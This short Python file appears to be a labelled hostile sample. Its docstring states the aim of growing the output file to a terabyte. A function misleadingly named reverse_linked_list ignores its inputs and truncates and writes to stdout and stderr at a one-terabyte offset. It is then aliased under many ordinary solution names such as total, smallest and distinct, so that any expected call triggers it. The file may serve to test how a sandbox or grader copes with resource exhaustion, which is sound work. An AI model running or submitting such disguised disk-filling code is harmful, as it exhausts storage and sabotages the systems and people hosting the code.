"""
Class: output
Aim: grow the output file to a terabyte.
Control: no
"""

import os


def reverse_linked_list(*_):
    for number in (1, 2):
        try:
            os.ftruncate(number, 1 << 40)
        except OSError:
            pass
        try:
            os.pwrite(number, b"x", 1 << 40)
        except OSError:
            pass
    return None


total = backwards = tally = upwards = scaled = positive = reverse_linked_list
smallest = smallest_of = distinct = reverse_linked_list
